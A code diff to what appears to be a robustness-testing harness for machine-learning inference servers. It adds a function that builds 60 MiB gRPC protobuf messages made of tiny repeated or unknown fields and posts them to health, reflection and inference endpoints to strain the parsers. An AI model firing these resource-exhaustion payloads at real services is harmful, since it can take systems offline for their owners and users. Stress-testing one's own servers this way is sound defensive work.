@@ -1,6 +1,7 @@
 """gRPC: messages that lie, and that grow in the parser."""
 
-from peer import GRPC, H2, data, grpc_message, packed, pb, varint
+from long_json import in_turns
+from peer import GRPC, H2, data, grpc_message, packed, pb, post, varint
 from registry import attack
 
 PATH = '/inference.GRPCInferenceService/ModelInfer'
@@ -35,6 +36,27 @@ def protobuf_that_grows(target):
               pb(1, 'identity') + pb(5, pb(1, 'x') + pb(2, 'BYTES') + pb(3, varint(1)) + pb(5, pb(8, b'') * count)),
               pb(1, 'identity') + b'\x9b\x06' * 50_000]
     return calls(target, [grpc_message(b) for b in bodies])
+
+
+@attack(seconds=20, quick=5)
+def protobuf_of_tiny_fields(target):
+    """Messages of 60 MiB whose fields have two bytes each, to every service: names that come again, unknown ones, elements one by one."""
+    size = target.size(60, 24) << 20
+    fill = lambda octets: octets * (size // len(octets))
+    unknown, again = fill(b'\x78\x01'), fill(pb(1, b''))
+    infer = '/inference.GRPCInferenceService/'
+    tensor = lambda count, elements: pb(2, 'identity') + pb(5, pb(1, pb(1, 'x') + b'\x10\1' + pb(3, varint(count)) + elements))  # of UINT8
+    requests = [('/grpc.health.v1.Health/Check', unknown), ('/grpc.health.v1.Health/Check', again), (infer + 'ModelReady', unknown),
+                ('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo', fill(b'\x7b\x7c')),
+                (infer + 'ModelInfer', fill(pb(3, b''))), (infer + 'ModelInfer', pb(1, 'identity') + pb(5, again)), (infer + 'ModelStreamInfer', again),
+                (infer + 'RepositoryModelLoad', again), ('/grps.protos.v1.GrpsService/Predict', fill(pb(2, b''))),
+                ('/grps.protos.v1.GrpsService/Predict', tensor(size // 2, fill(b'\x20\x01'))),
+                ('/grps.protos.v1.GrpsService/Predict', tensor(size, pb(4, fill(b'\x01')))),
+                ('/grps.protos.v1.GrpsService/Online', tensor(size, pb(4, fill(b'\x01')))),
+                ('/salience.v1.Salience/Generate', fill(b'\x10\x01')), ('/salience.v1.Salience/Generate', pb(2, fill(b'\x01'))),
+                ('/salience.v1.Salience/Generate', fill(pb(14, b''))), ('/evergreen.v2.EvergreenService/StartSession', pb(1, again)),
+                ('/weir.forward.v1.Forward/Generate', again)]
+    return in_turns(target, [(path, post(path, grpc_message(message), ('Content-Type', 'application/grpc-web+proto'))) for path, message in requests])
 
 
 @attack(quick=2.5)
